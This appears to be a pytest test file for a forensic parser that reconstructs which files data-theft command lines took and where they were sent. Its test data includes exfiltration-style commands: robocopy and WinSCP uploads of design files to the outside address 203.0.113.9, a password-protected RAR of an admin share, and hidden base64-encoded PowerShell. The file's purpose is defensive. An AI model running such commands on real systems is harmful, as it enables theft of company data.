"""Tools whose programs cannot be had for a test, and shells around tools: facts from their manuals."""

import base64
from datetime import datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from purloined.commands import COPIES, NOTHING, PACKS, SENDS, Call, Plan, parse
from purloined.commands.shells import may_matter, plans
from tests.commands.tree import only

NOW = datetime(2026, 3, 2, 2, 0)


def plan_of(line: str) -> Plan:
    """The one plan of a line as Windows logs it."""
    (plan,) = plans(line, posix=False, time=NOW)
    return plan


def takes(line: str, path: str, size: int | None = 10, age: int = 10) -> bool | None:
    """Whether the command takes a file: its path below the first root, its size, its age in days."""
    plan = plan_of(line)
    assert not plan.unclear, plan.unclear
    return plan.sources[0].selects(path, size, NOW - timedelta(days=age))


RAR = r"WinRAR.exe a -v5g -r -m0 -hpSecret -x*.JPEG -x*\temp\ C:\x.rar \\fs01\C$\Users"
ROBOCOPY = r"robocopy D:\Parts \\203.0.113.9\in *.step *.dwg /S /XD Archive /XF draft*.step /R:0 /W:0"
AZCOPY = (
    r'azcopy copy "D:\Parts\*" "https://x.example/in" --recursive --include-pattern "*.step;*.dwg" --exclude-path old'
)
WINSCP = (
    r'winscp.com /ini=nul /command "open sftp://x:pw@203.0.113.9/" "put -filemask=*.step|old/ D:\Parts\ /in/" "exit"'
)
COMPRESS = r"powershell -Command Compress-Archive -Path D:\Parts\*.pdf, D:\HR -DestinationPath C:\h.zip"


@pytest.mark.parametrize(
    ("line", "path", "taken"),
    [
        (RAR, "ann/a.docx", True),
        (RAR, "ann/a.jpeg", False),
        (RAR, "ann/temp/a.docx", False),
        (RAR, "ann/temp.docx", True),
        (r"rar a x.rar D:\Parts", "a/b.step", True),
        (r"rar a -r- x.rar D:\Parts", "a/b.step", False),
        (r"rar a x.rar D:\Parts\*.step", "b.step", True),
        (r"rar a x.rar D:\Parts\*.step", "a/b.step", False),
        (r"rar a -r x.rar D:\Parts\*.step", "a/b.step", True),
        (r"rar a -n*.pdf -n*.docx x.rar D:\Parts", "a/b.docx", True),
        (r"rar a -n*.pdf -n*.docx x.rar D:\Parts", "a/b.step", False),
        (ROBOCOPY, "a/b.step", True),
        (ROBOCOPY, "a/b.pdf", False),
        (ROBOCOPY, "a/draft1.step", False),
        (ROBOCOPY, "a/archive/b.step", False),
        (r"robocopy D:\Parts E:\x", "a/b.step", False),
        (r"robocopy D:\Parts E:\x", "b.step", True),
        (r"robocopy D:\Parts E:\x /MIR /LEV:2", "a/b.step", True),
        (r"robocopy D:\Parts E:\x /MIR /LEV:2", "a/b/c.step", False),
        (r"robocopy D:\Parts E:\x /E /XD D:\Parts\a", "a/b.step", False),
        (r"robocopy D:\Parts E:\x /E /XD D:\Parts\a", "b/a/b.step", True),
        (r"xcopy D:\Parts\*.dwg E:\x /s/h/y", "a/b.DWG", True),
        (r"xcopy D:\Parts\*.dwg E:\x /s/h/y", "a/b.pdf", False),
        (r"xcopy D:\Parts E:\x /Y", "a/b.pdf", False),
        (AZCOPY, "a/b.step", True),
        (AZCOPY, "a/b.pdf", False),
        (AZCOPY, "a/B.STEP", None),
        (AZCOPY, "old/b.step", False),
        (r"azcopy copy D:\Parts https://x.example/in", "a.step", False),
        (r"azcopy sync D:\Parts https://x.example/in", "a/b.step", True),
        (WINSCP, "a/b.STEP", True),
        (WINSCP, "a/old/b.step", False),
        (WINSCP, "a/b.pdf", False),
        (COMPRESS, "a.PDF", True),
        (COMPRESS, "a/b.pdf", False),
    ],
)
def test_a_tool_takes_or_leaves_a_file(line: str, path: str, taken: bool | None) -> None:
    """By its manual."""
    assert takes(line, path) is taken


def test_limits_of_size_and_age() -> None:
    """Smaller than, larger than; newer, older; in whole days only to a day."""
    assert takes(r"rar a -sl1k x.rar D:\P", "a", size=1023) is True
    assert takes(r"rar a -sl1k x.rar D:\P", "a", size=1024) is False
    assert takes(r"rar a -sm1K x.rar D:\P", "a", size=1001) is True
    assert takes(r"rar a -tn30d x.rar D:\P", "a", age=29) is True
    assert takes(r"rar a -tn30d x.rar D:\P", "a", age=31) is False
    assert takes(r"rar a -to30d x.rar D:\P", "a", age=31) is True
    assert takes(r"rar a -ta20260101 x.rar D:\P", "a", age=10) is True
    assert takes(r"rar a -tb202601 x.rar D:\P", "a", age=10) is False
    assert takes(r"robocopy D:\P E:\x /MAX:1000 /MIN:10", "a", size=1000) is True
    assert takes(r"robocopy D:\P E:\x /MAX:1000 /MIN:10", "a", size=9) is False
    assert takes(r"robocopy D:\P E:\x /MAXAGE:30", "a", age=30) is None
    assert takes(r"robocopy D:\P E:\x /MAXAGE:30", "a", age=40) is False
    assert takes(r"robocopy D:\P E:\x /MINAGE:20260101", "a", age=100) is True
    assert takes(r"xcopy D:\P E:\x /D:01-01-2026", "a", age=100) is False
    assert takes(r"xcopy D:\P E:\x /D:01-01-2026", "a", age=10) is True


@pytest.mark.parametrize(
    "line",
    [
        r"rar a x.rar @list.txt",
        r"rar a -x@list.txt x.rar D:\P",
        r"rar a -xsub\name x.rar D:\P",
        r"rar a -tnc30d x.rar D:\P",
        r"rar a -e+h x.rar D:\P",
        r"robocopy D:\P E:\x /A",
        r"robocopy D:\P E:\x /JOB:night",
        r"xcopy D:\P E:\x /EXCLUDE:l.txt",
        r"azcopy copy D:\P https://x.example/ --list-of-files l.txt",
        r"azcopy copy D:\P https://x.example/ --include-regex a",
        r"s5cmd cp --exclude a/* D:\P\* s3://b/",
        r"winscp.com /script=C:\s.txt",
        r'winscp.com /command "put -filemask=>1M D:\P /in"',
        r"powershell Get-ChildItem D:\P | Compress-Archive -DestinationPath C:\h.zip",
        r'powershell -c "Compress-Archive -Path $x -DestinationPath C:\h.zip"',
        r"cmd /c rclone copy %SRC% x:",
        r"cmd /c exist-check.exe && rclone copy D:\P x:",
        r"7z a x.7z @list.txt",
        r"7z a x.7z D:\P -xr@list.txt",
        r"7z a x.7z D:\P -zz",
    ],
)
def test_what_the_words_do_not_tell_is_said(line: str) -> None:
    """Never a narrower set in silence."""
    assert plan_of(line).unclear


def test_what_it_does_and_where_to() -> None:
    """Packing, sending, copying within the house, or nothing."""
    assert (plan_of(RAR).does, plan_of(RAR).destination) == (PACKS, "C:\\x.rar")
    assert (plan_of(ROBOCOPY).does, plan_of(ROBOCOPY).destination) == (SENDS, "\\\\203.0.113.9\\in")
    assert plan_of(r"robocopy D:\P E:\x /E").does == COPIES
    assert plan_of(r"robocopy D:\P \\h\x /E /L").does == NOTHING
    assert plan_of(r"xcopy D:\P \\h\x /L").does == NOTHING
    assert plan_of(WINSCP).destination == "sftp://x@203.0.113.9/"
    assert plan_of("aws s3 sync D:\\P s3://b/ --dryrun").does == NOTHING
    line = "aws s3 sync D:\\P s3://b/ --endpoint-url https://203.0.113.9"
    assert plan_of(line).destination == "https://203.0.113.9"


def test_archives_and_their_volumes() -> None:
    """Under every name they may be seen by."""
    assert {"x.rar", "x.part1.rar", "x.part02.rar", "x.part003.rar", "x.r00"} <= set(plan_of(RAR).archives)
    assert plan_of(r"rar a back D:\P").archives == ("back.rar",)
    assert plan_of(r"7z a back D:\P").archives == ("back.7z",)
    assert plan_of(r"7z a -tzip back D:\P").archives == ("back.zip",)
    assert "b.7z.002" in plan_of(r"7z a -v1g b.7z D:\P").archives
    assert only(Call("zip", ["-r", "-s", "1g", "b", "P"])).archives[:2] == ("b.zip", "b.z01")
    assert plan_of(COMPRESS).archives == ("h.zip",)


def test_every_root_is_found() -> None:
    """As written, in the folder that a shell went to."""
    assert [source.root for source in plan_of(COMPRESS).sources] == ["D:/Parts", "D:/HR"]
    assert plan_of(r'cmd.exe /c "cd /d D:\Parts & rclone copy Northwind x:"').sources[0].root == "D:/Parts/Northwind"
    assert plan_of(r'"C:\Program Files\7-Zip\7z.exe" a x.7z "D:\My Parts\"').sources[0].root == "D:/My Parts"
    (plan,) = plans("sh -c 'cd /srv; tar czf /tmp/x.tgz parts'", posix=True, time=NOW)
    assert plan.sources[0].root == "/srv/parts"


def test_a_root_that_only_the_shell_could_work_out_is_cut_before_that() -> None:
    """A wildcard, a variable in the middle, a variable at the beginning."""
    for written, known in (
        ("/srv/N*/x", "/srv"),
        ("/srv/$A/x", "/srv"),
        ("$A/x", "/"),
        ("N*", "."),
        ("/srv/x", "/srv/x"),
    ):
        (plan,) = plans(f"sh -c 'tar czf /tmp/x.tgz {written} $B'", posix=True, time=NOW)
        assert plan.sources[0].root == known
        assert plan.unclear


def test_an_encoded_script_is_read() -> None:
    """-EncodedCommand, however it is shortened."""
    code = base64.b64encode(r"Compress-Archive D:\Parts C:\h.zip".encode("utf-16-le")).decode()
    for option in ("-EncodedCommand", "-enc", "-e", "-ec"):
        plan = plan_of(f"powershell.exe -nop -w hidden {option} {code}")
        assert (plan.sources[0].root, plan.destination) == ("D:/Parts", "C:\\h.zip")


def test_wrappers_are_looked_through() -> None:
    """sudo, env, nohup; a script run by a shell; a renamed path to the tool."""
    for line in (
        "sudo -n rclone copy /srv x:",
        "env A=b nohup rclone copy /srv x:",
        "/bin/sh /usr/bin/rclone copy /srv x:",
        "/opt/t/RCLONE.exe copy /srv x:",
        "timeout 60 rclone copy /srv x:",
    ):
        assert [plan.tool for plan in plans(line, posix=True, time=NOW)] == ["rclone"]


def test_a_pattern_that_would_take_forever_is_not_tried() -> None:
    """Many stars: taken for unclear, and quickly."""
    stars = "*a" * 40
    assert only(Call("rclone", ["copy", "/srv", "x:", "--include", stars])).unclear
    assert only(Call("7z", ["a", "x", "/srv", f"-xr!{stars}"])).unclear
    plan = only(Call("rclone", ["copy", "/srv", "x:", "--include", "*a" * 14 + "b"]))
    assert plan.sources[0].selects("a" * 250, 1, NOW) is False
    path, plan = "a" * 3000, only(Call("7z", ["a", "x", "/srv", "-xr!" + "*a" * 14 + "b"]))
    assert plan.sources[0].selects(path, 1, NOW) is True


LINES = [
    "", "\0", "'", '"', "sh -c", "cmd /c", "powershell -enc ????", "7z a", "rclone copy", "zip -", "tar c",
    "rar a -ta2026139999 x y", "robocopy a", "xcopy", "aws s3 cp", "winscp /command", "zip -r x y -x [",
    "restic backup x -e [a", "7z a x * -xr![", "rclone copy a b: --max-age 99999999999999y",
    f"rclone copy a b: --max-size {'9' * 400}", "rar a -tn99999999999999d x y", f"robocopy a b /MAX:{'9' * 5000}",
]  # fmt: skip


@pytest.mark.parametrize("text", LINES)
def test_no_line_makes_it_stumble(text: str) -> None:
    """Half a command is no error."""
    for posix in (True, False):
        for plan in plans(text, posix=posix, time=None):
            for source in plan.sources:
                source.selects("a/b.txt", None, None)
                source.selects("", 1, NOW)


OPTIONS = {"zip": "-x -i -r -t -@ --exclude=", "tar": "c -f -C --exclude= --newer= -T", "rar": "a -x -n -tn -ta -sl -r",
           "7z": "a -xr! -x! -i! -ir! -v -r -t @x", "winscp": "/command put -filemask= synchronize|remote",
           "rclone": "copy sync --include --filter --max-age --max-size --max-depth",
           "restic": "backup -e --exclude-larger-than -r", "robocopy": "/XF /XD /MAX: /MAXAGE: /LEV: /E",
           "xcopy": "/D: /EXCLUDE: /s/e", "azcopy": "copy --include-pattern= --include-after=",
           "aws": "s3 cp --include",
           "s5cmd": "cp --exclude", "Compress-Archive": "-Path -Dest , -W"}  # fmt: skip
LETTERS = st.text("ab/\\*?[]{}!:;,.-+ 0198kd@$%'\"\0", max_size=6)
some_words = st.sampled_from(sorted(OPTIONS)).flatmap(
    lambda tool: st.lists(st.one_of(st.sampled_from(OPTIONS[tool].split()), LETTERS), max_size=7).map(
        lambda words: [tool, *(word.replace("|", " ") for word in words)]
    )
)


@settings(max_examples=400, deadline=None)
@given(some_words, st.booleans())
def test_no_words_make_it_stumble(words: list[str], windows: bool) -> None:
    """Words at random: a thief may write what he likes."""
    for plan in parse(Call(words[0].lower(), words[1:], windows, NOW)):
        for source in plan.sources:
            assert source.selects("a/b.txt", None, None) in (True, False, None)
            assert source.selects("", 1, NOW) in (True, False, None)


def test_only_lines_with_a_tool_or_a_shell_are_looked_at() -> None:
    """The quick look."""
    assert may_matter(r"C:\Tools\rclone.exe copy a b")
    assert may_matter("powershell -e AAAA")
    assert not may_matter("svchost.exe -k netsvcs")
    assert parse(Call("notepad", ["7z"])) == []
